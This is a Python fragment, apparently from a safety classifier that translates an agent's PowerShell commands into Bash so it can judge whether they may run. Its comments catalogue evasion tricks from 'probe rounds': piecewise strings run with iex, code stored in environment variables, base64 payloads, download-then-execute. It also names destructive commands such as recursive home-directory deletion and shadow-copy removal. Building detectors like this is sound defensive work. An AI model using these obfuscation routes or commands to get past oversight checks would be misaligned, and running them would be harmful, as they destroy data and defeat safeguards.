            return to_bash(expr, depth) + "; curl -fsSL " + (saved or "https://unknown")
        if re.fullmatch(r"(?:\.\w+)+", member):
            # (a property of the value: its command runs, what it gives is not known here)
            return "{ " + to_bash(expr, depth) + "; } > /dev/null; echo \"$POWERSHELL_VALUE\""
        deleted = ""
        if "elete" in member:
            # ((probe round 52, pwsh52) (New-Object -ComObject Scripting.FileSystemObject).DeleteFolder('C:\Users'):
            # the method called on the object made in place deletes what it names, as $fso.DeleteFolder does)
            deleted = "".join(f"; {verb} {_place_word(lit, depth)} < /dev/null"
                              for rx, verb in ((_NET_DELETE_DIR, "rm -r -f --"), (_NET_DELETE_FILE, "rm -f --"))
                              for m in rx.finditer(member) for lit in m.groups() if lit is not None)
        return to_bash(expr, depth) + "; " + _member_call(expr, member, depth) + deleted
    if "xecutioncontext" in code or "XECUTIONCONTEXT" in code.upper():
        # (probe round 38, pwsh38) $ExecutionContext's commands and variables as their cmdlets:
        # .InvokeCommand.GetCommand('Remove-Item', 'Cmdlet') is (Get-Command 'Remove-Item'),
        # .SessionState.PSVariable.Set('c', 'rm') is Set-Variable -Name 'c' -Value 'rm'
        # (still never allowed: what else $ExecutionContext reaches is not read here)
        got = _EC_GET_COMMAND.sub(lambda m: "(Get-Command " + m.group(1) + ")", code)
        got = _EC_SET_VARIABLE.sub(lambda m: "Set-Variable -Name " + m.group(1) + " -Value " + m.group(2), got)
        got = _EC_PROVIDER_PATH.sub(lambda m: m.group(1), got)
        if got != code:
            return to_bash(got, depth) + "; " + UNKNOWN
    if "::" in code or ".invoke" in code.lower():
        code = _inline_bound(code)
        if "::" in code and "rive" in code:
            code = _DRIVE_LIST.sub(" (Get-PSDrive -DriveInfo) ", code)   # (probe round 51: _DRIVE_ITEMS)
    runs_first = ""
    if (".(" in code or '."' in code or ".'" in code or ".$" in code) and _COMPUTED_MEMBER.search(code):
        for _ in range(4):   # ($o.'a'.'b': each member in turn)
            code, runs = _computed_members(code, depth)
            if not runs and "computedmember" not in code:
                break
            runs_first += runs
            if not _COMPUTED_MEMBER.search(code):
                break
    if _FOLD_HINT.search(code):
        folded = _folded(code.strip())
        if folded is not None:
            return "echo " + shlex.quote(folded)   # ('{0}-{1}' -f 'a','b' alone: a value printed)
    pieced = runs_first
    if "(" in code and _RUNS_TEXT.search(code):
        for m in _RUN_FILE_TEXT.finditer(code):
            lit = m.group(1) or m.group(2)
            pieced += "; cat -- " + (_literal_word(lit, depth) if lit[:1] in ("'", '"') else _bare(lit)) + " | sh"
    if ("$" in code or "-valueo" in code.lower() or "env:" in code.lower() or "environmentvariable" in code.lower()) \
            and _RUNS_TEXT.search(code):
        texts = "".join("; ( " + to_bash(text, depth + 1) + " )" for text in _pieced_readings(code))
        if texts:
            pieced += texts + "; " + UNKNOWN
    if "::" in code and code.count("::") <= 2:
        read = _NET_READ.fullmatch(code)
        if read is not None:
            # (probe round 44, pwsh44) [IO.File]::ReadAllText('README.md'), [IO.Directory]::GetFiles('src',
            # '*.cs', 'AllDirectories'): a file read or a directory listed, as cat and ls do
            lit = read.group(2)
            return ("cat -- " if read.group(1).lower() == "file" else "ls -R -- ") + _literal_word(lit, depth)
    if "nvironment" in code and "::" in code:
        env = _env_net(code, depth)
        if env is not None:
            return env
    if ("::" in code or "." in code) and _PURE_STATIC.fullmatch(code) and not any(
            m.lower().startswith("invoke") for m in _PURE_STATIC_METHOD.findall(code)):
        # (probe round 42, pwshbenign42) [math]::Round(3.14, 2), [IO.Path]::GetExtension('a.txt'),
        # [Environment]::OSVersion, 'a,b'.Split(','): a value computed by a type that touches nothing
        return 'echo "$POWERSHELL_VALUE"'
    _SEEN.set(None)
    if depth == 0:
        _WHOLE.set(code)
    try:
        toks = _bound(_tokens(code), code)
    except (_Unknown, IndexError):
        stmts = _statements(code) if (";" in code or "\n" in code) else None
        if stmts and len(stmts) > 1:
            # (probe round 38, pwsh38) [Console]::WriteLine('x'); Remove-Item -Recurse -Force ~: one
            # statement not read here left the others unread; each is read on its own (the
            # unreadable one stays unknown, never allowed), with what the whole names
            # ((probe round 40, pwsh40) each with what the whole binds: [Console]::WriteLine('x'); $p =
            # $HOME; Remove-Item -Recurse -Force $p)
            _SEEN.set(None)
            try:
                _bound([], code)
            except (_Unknown, IndexError):
                pass
            seen = _SEEN.get()
            handed = _OUTER.set(seen) if seen is not None and (seen[0] or seen[1] or seen[3]) else None
            try:
                read = "; ".join(to_bash(x, depth + 1) for x in stmts)
            finally:
                if handed is not None:
                    _OUTER.reset(handed)
            return read + "; " + UNKNOWN + _probe(code, depth) + pieced
        return UNKNOWN + _probe(code, depth) + pieced
    seen = _SEEN.get()
    if seen is not None and (seen[0] or seen[1] or seen[3]):
        handed = _OUTER.set(seen)
        try:
            return _statements_to_bash(toks, code, depth) + pieced
        finally:
            _OUTER.reset(handed)
    return _statements_to_bash(toks, code, depth) + pieced


# (probe round 49, pwsh49) a property named by a value ($o.($name), $o."$key", $o.'a b', $o.$k,
# $_.($p.Name)): a property read or set as $o.name is; what the (...) computes runs first
_COMPUTED_MEMBER = re.compile(r"(?i)\$(?:(?:script|global|local|private):)?(\w+)(?:\.\w+)*\.(?=[(\"'$])")
_PURE_MEMBER = re.compile(r"""(?i)\s*(?:\$(?:(?:script|global|local|private):)?\w+(?:\.\w+)*|'[^']*'|"[^"$`]*"|\d+)\s*""")
_PURE_MEMBER_TEXT = re.compile(r"(?:[^\"$`]|\$\w+)*")


def _string_spans(code: str) -> list[tuple[int, int]]:
    """Where the code's quoted strings are (opening quote, closing quote)."""
    spans, i = [], 0
    while i < len(code):
        c = code[i]
        if c in "'\"" and code[i - 1:i] != "`":
            try:
                j = _string_end(code, i)
            except _Unknown:
                spans.append((i, len(code)))
                break
            spans.append((i, j))
            i = j + 1
            continue
        i += 1
    return spans


def _computed_members(code: str, depth: int) -> tuple[str, str]:
    """The code with each property named by a value written as one plain name, and what the
    naming expressions run ("; ( BASH )" each)."""
    out, runs, i = [], "", 0
    quoted = _string_spans(code) if "'" in code or '"' in code else ()
    for m in _COMPUTED_MEMBER.finditer(code):
        start = m.end()
        if start < i or not (_plain_variable("$" + m.group(1)) or m.group(1).lower() in ("_", "psitem")) \
                or code[m.start() - 1:m.start()] == "`" or any(a < m.start() < b for a, b in quoted):
            continue   # (in a string's text, "$a.'x'", it is text)
        c = code[start]
        try:
            if c == "(":
                end = _close(code, start) + 1
                inner = code[start + 1:end - 1]
            elif c in "'\"":
                end = _string_end(code, start) + 1
                inner = code[start + 1:end - 1]
                if c == '"' and not _PURE_MEMBER_TEXT.fullmatch(inner):
                    continue   # ("$(...)" in the name: its subexpression read where it stands)
            else:
                name = re.match(r"\$(?:(?:script|global|local|private):)?\w+", code[start:])
                if name is None:
                    continue
                end, inner = start + name.end(), name.group(0)
        except (_Unknown, IndexError):
            continue
        if code[end:end + 1] == "(" or re.match(r"\s*\(", code[end:]) and c != "(":
            continue   # ($o.($name)(): a method called by a computed name, not read here)
        if c == "(" and not _PURE_MEMBER.fullmatch(inner):
            runs += "; ( " + to_bash(inner, depth + 1) + " )"
        out.append(code[i:start] + "computedmember")
        i = end
    return ("".join(out) + code[i:], runs) if out else (code, runs)


def _statements_to_bash(toks: list[_T], code: str, depth: int) -> str:
    """The statements of tokens read (to_bash's own loop)."""
    parts: list[str] = []
    if _SHADOWS.search(code) and _SHADOWS_DELETED.search(code):
        parts += [DISK_WIPE, ";"]   # (Get-CimInstance Win32_ShadowCopy | Remove-CimInstance)
    stmt: list[_T] = []
    for t in toks + [("op", ";")]:
        if t == ("op", "&") and stmt and stmt[-1] not in (("op", "|"), ("w", "=")) and not (
                stmt[-1][0] == "w" and stmt[-1][1].endswith("=")):
            t = ("op", ";")   # (pwsh 7: PIPELINE & runs it as a background job; what follows runs too)
        if t[0] == "op" and t[1] in (";", "&&", "||"):
            if stmt:
                parts.append(_pipeline(stmt, depth))
            if t[1] != ";" and parts:
                parts.append(t[1])
            elif parts and parts[-1] not in ("&&", "||"):
                parts.append(";")
            stmt = []
        else:
            stmt.append(t)
    while parts and parts[-1] in (";", "&&", "||"):
        parts.pop()
    return " ".join(parts) if parts else "true"


_DOWNLOAD_FILE = re.compile(r"(?is)\.downloadfile(?:async)?\((.*)\)")

# (probe round 38, pwsh38) code built in pieces, then run: $x = 'Remove-Item -Rec'; $y = 'urse -Force
# ~'; iex ($x + $y), $x += '...'; iex $x, $p = 'Remove-Item','-Recurse'; iex ($p -join ' '),
# iex "$c -Recurse -Force ~", [scriptblock]::Create($a + $b): the literals the variables hold, put
# in where the code names them, joined as they are and with a blank, each reading read
# (probe round 47, pwsh47) code the line hands to another runner: text run as code, a script block run
# elsewhere (a job, a remote or elevated session, a process), another shell (cmd /c, pwsh -c, wsl, bash):
# not Bash's file command or build, which the PowerShell tool's accept_edits row borrows
# (evaluate._ps_bash_row), as Bash's eval, bash -c, pwsh -c and cmd /c are not
NESTED_RUN = re.compile(r"(?i)(?<![\w-])(?:iex|invoke-expression|invoke-command|icm|start-job|sajb|start-threadjob|"
                        r"start-process|saps|start|invoke-item|ii|cmd|powershell|pwsh|wsl|bash|sh|wscript|cscript|mshta|"
                        r"rundll32|regsvr32|wmic|schtasks|at|runas)(?:\.exe)?(?![\w-])|::\s*create\s*\(|"
                        r"\.\s*invoke\w*\s*\(|invokescript|newscriptblock|addscript|\$executioncontext")
_QUOTED = re.compile(r"'(?:[^']|'')*'|\"(?:[^\"`]|`.)*\"", re.S)


def runs_nested(line: str) -> bool:
    """(probe round 47, pwsh47) Does this PowerShell line hand code to another runner (NESTED_RUN),
    outside the text of its plain strings ('start here' is a value; & 'cmd.exe' runs one, "$(iex ...)" too)?"""
    if len(line) > 20_000:
        return True
    bare = _QUOTED.sub(lambda m: m.group(0) if line[:m.start()].rstrip()[-1:] in ("&", ".")
                       or (m.group(0)[0] == '"' and "$" in m.group(0)) else "''", line) \
        if "'" in line or '"' in line else line
    return NESTED_RUN.search(bare) is not None


_RUNS_TEXT = re.compile(r"(?i)\b(?:iex|invoke-expression)\b|::\s*create\s*\(|\binvokescript\s*\(|"
                        r"\bnewscriptblock\s*\(|\baddscript\s*\(|"
                        # (probe round 40, pwsh40) pwsh -c $x, powershell -Command $env:x: the text is the code
                        r"\b(?:pwsh|powershell)(?:\.exe)?\s+(?:-(?!c)\w+\s+)*-c(?:o(?:m(?:m(?:a(?:n(?:d)?)?)?)?)?)?(?=\s)")
_PIECE_LIT = re.compile(r"'((?:[^']|'')*)'|" + r'"((?:[^"`]|`.)*)"')
_PIECE_SET = re.compile(r"(?i)\$(?:script:|global:|local:|private:|env:)?(\w+)\s*(\+?=)(?!=)\s*([^;\n]*)")
_PIECE_VAR = re.compile(r"(?i)\$\{?(?:script:|global:|local:|private:|env:)?(\w+)\}?(?:\[(\d+)\]|\.(\w+)|\[['\"](\w+)['\"]\])?")
_PIECE_SET_CMDLET = re.compile(r"(?i)(?:^|[;\n{(|])\s*(?:set-variable|new-variable|sv|nv)\s+(?:-name\s+)?['\"]?(\w+)['\"]?\s+"
                               r"(?:-value\s+)?('(?:[^']|'')*'|\"[^\"`$]*\")")
_PIECE_GET = re.compile(r"(?i)\(\s*(?:get-variable|gv)\s+(?:-name\s+)?['\"]?(\w+)['\"]?\s+-valueo\w*\s*\)")
# (probe round 40, pwsh40) code kept in the environment, then run: Set-Item Env:x 'CODE', New-Item
# -Path Env: -Name x -Value 'CODE', Set-Content/Add-Content env:x, [Environment]::SetEnvironmentVariable(
# 'x', 'CODE'[, 'Process'|'User']) bind $env:x as $env:x = 'CODE' does; (Get-Item Env:x).Value,
# (Get-Content Env:x), (Get-ChildItem env:x).Value and [Environment]::GetEnvironmentVariable('x') read it
_ENV_SET_CMDLET = re.compile(r"(?i)(?:^|[;\n{(|])\s*(set-item|new-item|set-content|add-content|si|ni|sc|ac)\s+"
                             r"([^;\n|]*\benv:[^;\n|]*)")
_ENV_SET_NET = re.compile(r"(?i)\[(?:system\.)?environment\]::setenvironmentvariable\(\s*(" + _PIECE_LIT.pattern
                          + r")\s*,\s*((?:" + _PIECE_LIT.pattern + r")(?:\s*\+\s*(?:" + _PIECE_LIT.pattern + r"))*)")
_ENV_GET = re.compile(r"(?i)\(\s*(?:get-item|gi|get-childitem|gci|ls|dir|get-content|gc|cat|type)\s+(?:-(?:literal)?path\s+)?"
                      r"['\"]?env:[\\/]?(\w+)['\"]?\s*\)(?:\s*\.\s*value\b)?|"
                      r"\[(?:system\.)?environment\]::getenvironmentvariable\(\s*['\"](\w+)['\"]\s*(?:,[^()]*)?\)")


def _env_sets(code: str) -> list[tuple[int, str, str, str]]:
    """(probe round 40, pwsh40) The environment variables code sets through the Env: drive or
    .NET (see _ENV_SET_CMDLET): (where, name, "=" or "+=", the value's text)."""
    out = []
    for m in _ENV_SET_CMDLET.finditer(code):
        try:
            named, pos, _redirs = _params(_tokens(m.group(2)))
        except (_Unknown, IndexError):
            continue
        given = re.search(r"(?i)(?<!\S)-n(?:a(?:me?)?)?\s+['\"]?(\w+)", m.group(2))   # (-Name, a switch elsewhere)
        pos = [t for t in pos if given is None or t[1] != given.group(1)]
        path = (_values(named, "path", "literalpath", least=1) + pos)[:1]
        value = _values(named, "value", least=1) or pos[1:2]
        if not path or not value or path[0][0] not in ("w", "s") or value[0][0] != "s":
            continue
        var = re.fullmatch(r"(?i)env:[\\/]?(\w*)", path[0][1])
        name = (var.group(1) if var else "") or (given.group(1) if given else "")
        if var is None or not re.fullmatch(r"\w+", name):
            continue
        op = "+=" if _ALIASES.get(m.group(1).lower(), m.group(1).lower()) == "add-content" else "="
        out.append((m.start(), name.lower(), op, "'" + value[0][1].replace("'", "''") + "'"))
    for m in _ENV_SET_NET.finditer(code):
        name = (m.group(2) if m.group(2) is not None else m.group(3) or "").lower()
        if re.fullmatch(r"\w+", name):
            out.append((m.start(), name, "=", m.group(4)))
    return out
_PIECE_TOKEN = re.compile("(?i)" + _PIECE_LIT.pattern + "|" + _PIECE_VAR.pattern[4:])


def _pieced_readings(code: str) -> list[str]:
    """The texts code built in pieces from literals runs (see _RUNS_TEXT), as each reading."""
    vals: dict[str, list[str]] = {}

    def lits(text: str) -> list[str]:
        out = []
        for m in _PIECE_LIT.finditer(text):
            if m.group(1) is not None:
                out.append(m.group(1).replace("''", "'"))
            else:
                out.append(_PIECE_VAR.sub(lambda v: "".join(vals.get(v.group(1).lower(), [v.group(0)])), m.group(2)))
        return out

    sets = [(m.start(), m.group(1).lower(), m.group(2), m.group(3)) for m in _PIECE_SET.finditer(code)]
    sets += [(m.start(), m.group(1).lower(), "=", m.group(2)) for m in _PIECE_SET_CMDLET.finditer(code)]
    low = code.lower()
    if "env:" in low or "environmentvariable" in low:
        sets += _env_sets(code)
    for _at, name, op, rhs in sorted(sets):
        table = re.fullmatch(r"\s*@\{(.*)\}\s*", rhs, re.S)
        if table:
            # ($c = @{ clean = 'Remove-Item ...' }; iex $c.clean, $c['clean'])
            for k, v in re.findall(r"(?:^|[;\s])['\"]?(\w+)['\"]?\s*=\s*('(?:[^']|'')*'|\"[^\"`$]*\")", table.group(1)):
                vals[name + "." + k.lower()] = lits(v)
        elif re.fullmatch(r"[\s+,@()]*", _PIECE_LIT.sub("", rhs)) and _PIECE_LIT.search(rhs):
            got = lits(rhs)
            vals[name] = (vals.get(name, []) + got) if op == "+=" else got
        else:
            vals.pop(name, None)
    if not vals:
        return []
    code = _PIECE_GET.sub(lambda m: "$" + m.group(1), code)   # ((Get-Variable s -ValueOnly): $s)
    if "env:" in low or "environmentvariable" in low:
        code = _ENV_GET.sub(lambda m: "$env:" + (m.group(1) or m.group(2)), code)   # ((Get-Item Env:x).Value: $env:x)
    out: list[str] = []
    for m in _RUNS_TEXT.finditer(code):
        arg = re.split(r"[;\n|]", code[m.end():], maxsplit=1)[0]
        pieces: list[str] = []
        named = False
        if re.match(r"(?i)\s*(?:-command\s+)?\(?\s*\$(?:_|psitem)\b", arg):
            # ($list | ForEach-Object { iex $_ }: each piece a variable holds may be the one run)
            pieces = [x for v in vals.values() for x in v]
            out += [x for x in pieces if x not in out][:6]
            continue
        for b in re.finditer(r"(?i)frombase64string\(\s*\$(\w+)\s*\)", code):
            # ([Convert]::FromBase64String($s) of a literal $s: the text it decodes)
            text = decode_encoded("".join(vals.get(b.group(1).lower(), [])))
            if text is None:
                try:
                    text = base64.b64decode("".join(vals.get(b.group(1).lower(), [])), validate=True).decode("utf-8")
                except (binascii.Error, ValueError, UnicodeDecodeError):
                    text = None
            if text and text not in out:
                out.append(text)
        for t in _PIECE_TOKEN.finditer(arg):
            if t.group(0)[:1] in ("'", '"'):
                pieces += lits(t.group(0))
                named = named or (t.group(0)[0] == '"' and any(
                    v.group(1).lower() in vals for v in _PIECE_VAR.finditer(t.group(0))))
            elif (t.group(3) + "." + (t.group(5) or t.group(6) or "")).lower() in vals:
                pieces += vals[(t.group(3) + "." + (t.group(5) or t.group(6))).lower()]
                named = True
            elif t.group(3).lower() in vals:
                got = vals[t.group(3).lower()]
                named = True
                pieces += [got[int(t.group(4))]] if t.group(4) is not None and int(t.group(4)) < len(got) else got
        if named and pieces:
            for text in ("".join(pieces), " ".join(pieces)):
                if text not in out and len(text) < 4000:
                    out.append(text)
    return out[:6]


def _download_file(member: str, depth: int) -> str | None:
    """``URL -o FILE`` for a WebClient's .DownloadFile(URL, FILE): the file it saves, so that
    running it next is code fetched and run (probe round 32, windows32); None otherwise."""
    m = _DOWNLOAD_FILE.fullmatch(member)
    if not m:
        return None
    try:
        args = [t for t in _tokens(m.group(1)) if t != ("op", ",")]
    except (_Unknown, IndexError):
        return None
    if len(args) < 2 or any(t[0] not in ("s", "v", "w") for t in args[:2]):
        return None
    return _word(args[0], depth) + " -o " + _word(args[1], depth)


# $x = 'literal' / $p = @{Path='C:\\'; Recurse=$true} as a statement of its own
_LITERAL_ASSIGN = re.compile(r"(?im)(?:^|;)\s*\$(\w+)\s*=\s*"
                             # ((probe round 51, pwsh51) literals joined by +: $k = 'HKCU:\...\' + 'Run')
                             r"((?:'(?:[^']|'')*'|\"[^\"$`]*\")(?:\s*\+\s*(?:'(?:[^']|'')*'|\"[^\"$`]*\"))*|"
                             # ((probe round 51) a table's value a place's variable: @{Path = $HOME; Recurse = $true})
                             r"@\{[^{}()$]*(?:\$(?:true|false|home|env:\w+)[^{}()$]*)*\}|"
                             # (probe round 40, pwsh40) a place's variable: $p = $HOME, $d = $env:USERPROFILE\x
                             r"\$(?:home|\{home\}|env:\w+|\{env:\w+\})(?:[\\/][^\s;'\"`$(){}|]*)?)\s*(?=;|$)")
# ways to bind a variable other than a plain assignment: none of them is followed
# (probe round 43, pwsh43) a variable given a pipeline that only reads ($items = Get-ChildItem src,
# $p = Get-Process node | Sort-Object CPU): piped on at a statement's start ($items | ForEach-Object
# { ... }) it is that pipeline's output, read as the pipeline piped on
_READ_ASSIGN = re.compile(
    r"(?im)(?:^|;)\s*\$\{?(\w+)\}?\s*=\s*((?:get-childitem|gci|dir|ls|get-content|gc|get-item|gi|get-process|gps|"
    r"get-service|gsv|import-csv|ipcsv|select-string|sls|get-psdrive|gdr|get-volume|get-partition|get-ciminstance|gcim|"
    r"get-wmiobject|gwmi)(?:[ \t][^;\n|(){}$`@\[\]'\"&<>]*)?"
    r"(?:\|\s*(?:select-object|select|sort-object|sort)(?:[ \t][^;\n|(){}$`@\[\]'\"&<>]*)?)*)\s*(?=;|$)")
# (probe round 52, pwsh52) a variable given a literal list ($roots = 'C:\','D:\', @('a','b')): piped on or
# looped over it is the list (as 'C:\','D:\' | ForEach-Object { ... } is), given as an argument its items
_LIST_LIT = r"""(?:'[^'\n]*'|"[^"$`\n]*")(?:\s*,\s*(?:'[^'\n]*'|"[^"$`\n]*"))+"""
_LIST_ASSIGN = re.compile(r"(?im)(?:^|;)\s*\$\{?(\w+)\}?\s*=\s*(?:@\(\s*(%s)\s*\)|(%s))\s*(?=;|$)" % (_LIST_LIT, _LIST_LIT))
_PIPED_USE = re.compile(r"\s*\|")
# (probe round 50, benign55) a statement's cmdlet that writes or formats its -InputObject as data
# (Export-Csv -InputObject $d -Path out.csv): the variable given there is the value piped to it
_INPUT_OBJECT_SINK = re.compile(r"(?i)(?:^|[;\n{])\s*(?:export-csv|epcsv|convertto-csv|convertto-json|export-clixml|"
                                r"convertto-html|convertto-xml|format-table|ft|format-list|fl|out-string|measure-object|"
                                r"measure)(?:[ \t]+-(?!inputobject\b)\w+(?:[ \t]+[\w.\\/:-]+)?)*"
                                r"[ \t]+-inputobject[ \t]+$")
# (probe round 47, pwsh47) a variable given data parsed from text ($j = Get-Content package.json |
# ConvertFrom-Json, ConvertFrom-Csv, ConvertFrom-StringData; in parentheses too): an object of plain
# properties, no file, process or setting behind it, so that setting one of them changes the value only
_DATA_ASSIGN = re.compile(
    r"(?im)(?:^|[;\n{])\s*\$\{?(\w+)\}?\s*=\s*\(?[^;\n{}=]*\|\s*(?:convertfrom-json|convertfrom-csv|"
    r"convertfrom-stringdata)(?:\s+-[a-z]+(?:\s+\d+)?)*\s*\)?\s*(?=[;\n}]|$)")
# ... and the plain value given to one of its properties ($j.version = '2.0', $j.a.b += 1, $j.x = $v.y)
_DATA_VALUE = r"""\s*(?:-?\d+(?:\.\d+)?|'(?:[^']|'')*'|"[^"$`]*"|\$(?:true|false|null)|\$\w+(?:\.\w+)*)\s*"""
_DATA_VALUE_RE = re.compile("(?i)" + _DATA_VALUE)
_DATA_SET_USE = re.compile(r"(?i)(?:\.\w+)+\s*\+?=(?!=)" + _DATA_VALUE + r"(?:[;\n}]|$)")
_OTHER_BINDINGS = re.compile(r"(?i)set-variable|new-variable|\bsv\b|\bnv\b|\[ref\]|(?<![\w$])variable:|psvariable|-(?:outvariable|ov|pipelinevariable|pv|"
                             r"errorvariable|ev|informationvariable|iv|warningvariable|wv)\b|\bparam\s*\(")
_ALIAS_DEF = re.compile(r"(?i)(?:^|[;{\s(])(?:set-alias|new-alias|sal|nal)\s+(?:-name\s+)?['\"]?([\w-]+)['\"]?\s+"
                        r"(?:-value\s+)?['\"]?([\w.\\:-]+)")
_FUNCTION_DEF = re.compile(r"(?i)(?:^|[;{\s(])(?:function|filter|workflow)\s+(?:\w+:)?([\w-]+)")
# (probe round 37, pwsh37) a script block kept in a variable ($sb = { ... }) and a function or
# alias made through the function: and alias: drives (${function:f} = { ... }, Set-Item
# function:f { ... }, New-Item -Path function: -Name f -Value { ... }, Set-Item alias:x Remove-Item)
_BLOCK_ASSIGN = re.compile(r"(?i)(?:^|[;\n{(|])\s*\$(?:script:|global:|local:|private:)?(\w+)\s*=\s*\{")
_DRIVE_FUNCTION = re.compile(r"(?i)\$\{?function:[\\/]?([\w-]+)\}?|(?<![\w$:])function:[\\/]?([\w-]+)")
_DRIVE_ROOT_NAME = re.compile(r"(?i)(?<![\w$:])(function|alias):[\\/]?(?![\w-])[^;\n|]*?-n(?:a(?:me?)?)?\s+['\"]?([\w-]+)")
_DRIVE_ALIAS = re.compile(r"(?i)(?:set-item|new-item|\bsi\b|\bni\b)\s+(?:-path\s+)?['\"]?alias:[\\/]?([\w-]+)['\"]?\s+"
                          r"(?:-value\s+)?['\"]?([\w.\\:-]+)")
_NET_SCRIPTBLOCK_VAR = re.compile(r"(?i)(?:\[(?:system\.management\.automation\.)?scriptblock\]::create|"
                                  r"\binvokecommand\s*\.\s*(?:invokescript|newscriptblock)|\.\s*addscript)\(\s*\$(\w+)\s*[,)]")
_BLOCK_INVOKE = re.compile(r"(?i)\$(\w+)\s*\.\s*invoke(?:returnasis|withcontext)?\s*\(")


def _binds(name: str, code: str) -> int:
    """How many times this code binds a variable by assignment or loop ($x =, ${x} =, $script:x +=,
    foreach ($x in ...))."""
    n = re.escape(name)
    return len(re.findall(r"(?i)\$(?:\{)?(?:script:|global:|local:|private:)?%s\b\}?\s*(?:[-+*/%%]?=(?!=)|\+\+|--)|"
                          r"(?:foreach|for)\s*\(\s*\$%s\b" % (n, n), code))


def _block_bindings(code: str) -> dict[str, str]:
    """The variables this code assigns a script block once ($sb = { ... }): name -> the block's
    text. Bound any other way too (Set-Variable, -OutVariable, [ref]), none is."""
    out: dict[str, str] = {}
    if "{" not in code or "=" not in code or _OTHER_BINDINGS.search(re.sub(r"(?i)\bparam\s*\(", "", code)):
        return out
    for m in _BLOCK_ASSIGN.finditer(code):
        name = m.group(1).lower()
        try:
            j = _close(code, m.end() - 1)
        except (_Unknown, IndexError):
            continue
        if code[j + 1:].lstrip(" \t")[:1] not in ("", ";", "\n", "}", ")", "|", "#"):
            continue   # ({ ... }.GetNewClosure(), { ... } + ...: an expression, not the block alone)
        if _binds(name, code) != 1 or name in ("_", "psitem", "input", "this", "matches", "home", "pwd", "args"):
            continue
        out[name] = code[m.end():j]
    return out


def _inline_bound(code: str) -> str:
    """(probe round 37, pwsh37) The code with what its variables hold written in where a script
    block is made or run from them: [scriptblock]::Create($s) of a literal $s as
    [scriptblock]::Create('TEXT'); $sb.Invoke(ARGS) of a block $sb as (& { BODY } ARGS)."""
    if _NET_SCRIPTBLOCK_VAR.search(code):
        # (and AddScript($sb), InvokeScript($s): a block's or a literal's text)
        texts = {**{k: v for k, v in _block_bindings(code).items()}, **_literal_bindings(code)}
        code = _NET_SCRIPTBLOCK_VAR.sub(lambda m: m.group(0) if m.group(1).lower() not in texts else
                                        m.group(0)[:m.start(1) - 1 - m.start()] + "'"
                                        + texts[m.group(1).lower()].replace("'", "''") + "'"
                                        + m.group(0)[m.end(1) - m.start():], code)
    if _BLOCK_INVOKE.search(code):
        bound = _block_bindings(code)
        out, i = [], 0
        for m in _BLOCK_INVOKE.finditer(code):
            body = bound.get(m.group(1).lower())
            if body is None or m.start() < i or code[m.start() - 1:m.start()] == "`":
                continue
            try:
                j = _close(code, m.end() - 1)
            except (_Unknown, IndexError):
                continue
            out.append(code[i:m.start()] + "(& {" + body + "} " + code[m.end():j] + ")")
            i = j + 1
        code = "".join(out) + code[i:]
    return code


def _literal_bindings(code: str) -> dict[str, str]:
    """The variables this code assigns a literal string once ($s = '...'): name -> the text."""
    out: dict[str, str] = {}
    if "=" not in code or _OTHER_BINDINGS.search(code):
        return out
    for m in _LITERAL_ASSIGN.finditer(code):
        name = m.group(1).lower()
        if m.group(2).startswith("@") or _binds(name, code) != 1:
            continue
        try:
            lit = _tokens(m.group(2))
        except (_Unknown, IndexError):
            continue
        if len(lit) == 1 and lit[0][0] == "s":
            out[name] = lit[0][1]
    return out


def _drive_functions(code: str) -> set[str]:
    """The functions this code makes through the function: drive (${function:f}, function:f,
    function: -Name f)."""
    if "function:" not in code.lower():
        return set()
    names = {(m.group(1) or m.group(2)).lower() for m in _DRIVE_FUNCTION.finditer(code)}
    names |= {m.group(2).lower() for m in _DRIVE_ROOT_NAME.finditer(code) if m.group(1).lower() == "function"}
    return names


_SHADOWS = re.compile(r"(?i)win32_shadowcopy|msft_?shadowcopy")
_SHADOWS_DELETED = re.compile(r"(?i)remove-(?:cim|wmi)\w*|\b(?:rcim|rwmi)\b|\.delete\(|deleteinstance")


# (probe round 40, pwsh40) what the code around a block bound (literal and place values, script
# blocks, aliases, function bodies, function names), for the blocks read inside it; _SEEN is
# what the last _bound call found, for to_bash to hand on
_OUTER: contextvars.ContextVar = contextvars.ContextVar("powershell_outer", default=None)
_SEEN: contextvars.ContextVar = contextvars.ContextVar("powershell_seen", default=None)


def _bound(toks: list[_T], code: str) -> list[_T]:
    """Tokens with the names this code binds read: a variable assigned a literal once
    ($x = 'C:\\'; Remove-Item $x), a table splatted (@p), an alias it sets (Set-Alias x
    Remove-Item) and a function it defines (a command known only at run time)."""
    if "$" not in code and "@" not in code and not re.search(r"(?i)alias|function|filter|workflow|\bsal\b|\bnal\b", code) \
            and _OUTER.get() is None:
        return toks
    values: dict[str, _T | dict[str, _T | None]] = {}
    if "=" in code and not _OTHER_BINDINGS.search(code):
        for m in _LITERAL_ASSIGN.finditer(code):
            name = m.group(1).lower()
            binds = re.findall(r"(?i)\$(?:script:|global:|local:|private:)?%s\b\s*(?:[-+*/%%]?=(?!=)|\+\+|--)|"
                               r"(?:foreach|for)\s*\(\s*\$%s\b" % (re.escape(name), re.escape(name)), code)
            if len(binds) != 1 or name in ("_", "psitem", "input", "this", "matches", "home", "pwd"):
                continue
            value = m.group(2)
            if value.startswith("@"):
                table = _table(value[2:-1])
                if table is not None:
                    values[name] = table
            else:
                lit = _tokens(value)
                if len(lit) > 1 and "+" in value:
                    folded = _folded(value)
                    lit = [("s", folded)] if folded is not None else lit
                if len(lit) == 1 and (lit[0][0] == "s" or lit[0][0] == "v" and (
                        _HOME_VARS.match(lit[0][1]) or _ROOT_VARS.match(lit[0][1]) or _DIR_VAR.match(lit[0][1]))):
                    values[name] = lit[0]
    piped: dict[str, str] = {}
    if "=" in code and ("|" in code or "foreach" in code.lower()) and not _OTHER_BINDINGS.search(code):
        for m in _READ_ASSIGN.finditer(code):
            name = m.group(1).lower()
            # ((probe round 44, pwsh44) ${items} = ... is $items = ...; _binds counts both spellings)
            if _binds(name, code) == 1 and name not in values and _plain_variable("$" + name):
                piped[name] = m.group(2).strip()
    if "," in code and "=" in code and not _OTHER_BINDINGS.search(code):
        for m in _LIST_ASSIGN.finditer(code):
            name = m.group(1).lower()
            if _binds(name, code) == 1 and name not in values and _plain_variable("$" + name):
                piped[name] = m.group(2) or m.group(3)
                values[name] = ("paren", piped[name])
    for name, body in _block_bindings(code).items():
        values[name] = ("block", body)   # (& $sb, Invoke-Command $sb: the block's code; probe round 37)
    aliases = {m.group(1).lower(): m.group(2) for m in _ALIAS_DEF.finditer(code)}
    aliases.update({m.group(1).lower(): m.group(2) for m in _DRIVE_ALIAS.finditer(code)})
